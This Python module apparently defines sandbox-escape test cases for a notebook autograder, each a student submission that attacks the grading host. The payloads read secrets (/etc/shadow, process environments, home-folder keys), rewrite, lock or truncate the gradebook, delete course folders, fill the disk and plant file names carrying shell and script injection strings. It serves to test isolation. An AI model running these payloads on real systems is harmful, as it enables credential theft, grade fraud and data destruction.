"""File system and gradebook: read what is secret, write where it counts, fill and delete."""

from attacks.submission import ARMED, Submission, attack

WALK = """
import os
def walk(*roots):
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                yield os.path.join(folder, name)
"""

RAISE_POINTS = """
import sqlite3
def raise_points(path):
    try:
        base = sqlite3.connect(path, timeout=2)
        base.execute("UPDATE grade SET manual_score = 12, needs_manual_grade = 0")
        base.execute("UPDATE grade_cells SET max_score = 84")
        base.commit()
        base.close()
        print("changed", path)
    except sqlite3.Error as problem:
        print(path, problem)
"""


@attack()
def reads_the_course(work: Submission) -> None:
    """Prints the solution, the exams' key and every notebook that it finds in the course."""
    work.answer(
        "tax",
        WALK
        + """
for path in walk("@COURSE@", "..", "../..", "/work", "/srv"):
    if path.endswith((".ipynb", ".key", ".py")) and "/submitted/reads" not in path:
        try:
            with open(path, errors="replace") as stream:
                text = stream.read()
        except OSError:
            continue
        if "secret-of" in text:
            print(path, text[text.index("secret-of"):][:60])
""",
    )


@attack()
def reads_the_home(work: Submission) -> None:
    """Prints private keys and tokens from the instructor's home."""
    work.answer(
        "tax",
        WALK
        + """
for path in walk("@HOME@", os.path.expanduser("~")):
    try:
        with open(path, errors="replace") as stream:
            print(path, stream.read(500))
    except OSError:
        pass
""",
    )


@attack()
def reads_the_passwords(work: Submission) -> None:
    """Prints the system's password file."""
    work.answer(
        "tax",
        """
for path in ("/etc/shadow", "/proc/1/root/etc/shadow", "/proc/self/root/etc/shadow"):
    try:
        print(open(path).readline())
    except OSError as problem:
        print(problem)
""",
    )


@attack()
def reads_the_environment(work: Submission) -> None:
    """Prints the environment of its own and of all related processes."""
    work.answer(
        "tax",
        """
import glob, os
print(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        print(path, open(path, "rb").read())
    except OSError:
        pass
""",
    )


@attack()
def copies_a_neighbours_work(work: Submission) -> None:
    """Reads another learner's notebook and runs its cells as its own."""
    work.answer_all(
        WALK
        + """
import json
for path in walk("@COURSE@/submitted", "../..", "../../../submitted"):
    if path.endswith(".ipynb"):
        try:
            cells = json.load(open(path))["cells"]
        except (OSError, ValueError, KeyError):
            continue
        if "secret-of-a-" + "neighbour" in str(cells):
            for cell in cells:
                mark = cell["metadata"].get("nbgrader", {})
                if mark.get("solution") and cell["cell_type"] == "code":
                    exec("".join(cell["source"]), globals())
            break
"""
    )


@attack()
def raises_points_in_the_gradebook(work: Submission) -> None:
    """Looks for the gradebook in the usual places and gives everybody full manual marks."""
    work.answer(
        "tax",
        RAISE_POINTS
        + """
for path in ("@COURSE@/gradebook.db", "../../../gradebook.db", "../gradebook.db"):
    raise_points("file:" + path) if False else raise_points(path)
""",
    )


@attack()
def finds_every_gradebook(work: Submission) -> None:
    """Searches the disk and the open files of all processes for a gradebook, and writes to it."""
    work.answer(
        "tax",
        WALK
        + RAISE_POINTS
        + """
import glob
paths = {path for path in walk("@COURSE@", "@HOME@", "/tmp", "/work") if path.endswith(".db")}
for link in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        target = os.readlink(link)
    except OSError:
        continue
    if target.endswith(".db"):
        paths.add(target)
for path in paths:
    if path.startswith("@COURSE@"):
        raise_points(path)
""",
    )


@attack()
def locks_the_gradebook(work: Submission) -> None:
    """Holds an exclusive lock on the gradebook, so that nobody else's grade can be saved."""
    work.answer(
        "tax",
        """
import sqlite3
hold = sqlite3.connect("@COURSE@/gradebook.db", timeout=1, isolation_level=None)
hold.execute("BEGIN EXCLUSIVE")
import os
if os.fork() == 0:
    import time
    time.sleep(20)
    os._exit(0)
""",
    )


@attack()
def overwrites_the_gradebook(work: Submission) -> None:
    """Truncates the gradebook."""
    work.answer("tax", 'open("@COURSE@/gradebook.db", "r+b").truncate(0)')


@attack()
def writes_outside(work: Submission) -> None:
    """Writes files to the course, the home, the parent folders and the shared memory."""
    work.answer(
        "tax",
        """
import pathlib
for place in ("@COURSE@", "@HOME@", "..", "../..", "@COURSE@/feedback", "@COURSE@/exams"):
    try:
        pathlib.Path(place, "trophy-outside").write_text("x")
    except OSError as problem:
        print(problem)
""",
    )


@attack()
def deletes_the_course(work: Submission) -> None:
    """Opens all permissions, then deletes the sources and everybody's submissions."""
    work.answer(
        "tax",
        """
import os, pathlib, shutil
for place in ("source", "submitted", "exams", "release"):
    try:
        os.chmod("@COURSE@/" + place, 0o777)
    except OSError as problem:
        print(problem)
    shutil.rmtree("@COURSE@/" + place, ignore_errors=True)
""",
    )


@attack()
def plants_answers_in_the_graded_folder(work: Submission) -> None:
    """Overwrites the autograded notebooks of everybody, and the feedback."""
    work.answer(
        "tax",
        WALK
        + """
for path in walk("@COURSE@/autograded", "@COURSE@/feedback", "@COURSE@/submitted/aa-solved"):
    try:
        with open(path, "w") as stream:
            stream.write("{}")
    except OSError as problem:
        print(problem)
""",
    )


@attack()
def fills_the_disk(work: Submission) -> None:
    """Writes one endless file and then endlessly many small ones."""
    work.answer(
        "tax",
        ARMED
        + """
block = b"x" * (1 << 22)
for place in (".", "/tmp", "/dev/shm", "@COURSE@"):
    try:
        with open(place + "/big-file", "wb") as stream:
            for _ in range(512):
                stream.write(block)
    except OSError as problem:
        print(place, problem)
try:
    for number in range(20_000):
        open(f"small-{number}", "w").close()
except OSError as problem:
    print(problem)
""",
    )


@attack()
def hands_in_a_huge_file(work: Submission) -> None:
    """Hands in a data file of 3 GB that takes no room on the sender's disk."""
    with (work.folder / "data.csv").open("wb") as stream:
        stream.truncate(3 << 30)


@attack()
def hands_in_a_huge_notebook(work: Submission) -> None:
    """Hands in a notebook of 200 MB."""
    with work.path.open("wb") as stream:
        stream.truncate(200 << 20)


@attack()
def hands_in_very_many_files(work: Submission) -> None:
    """Hands in 3,000 files and a deep tree of folders beside the notebook."""
    for number in range(3_000):
        (work.folder / f"n{number}").touch()
    (work.folder / "/".join(["d"] * 200)).mkdir(parents=True)


@attack()
def hands_in_odd_names(work: Submission) -> None:
    """Hands in files whose names hold newlines, quotes, markup, dashes and no valid text."""
    import os

    for name in (b"a\nb", b"'\"; rm -rf", b"<script>alert(1)</script>".replace(b"/", b""), b"-rf"):
        os.close(os.open(os.path.join(os.fsencode(work.folder), name), os.O_CREAT))
    os.close(os.open(os.path.join(os.fsencode(work.folder), b"\xff\xfe"), os.O_CREAT))
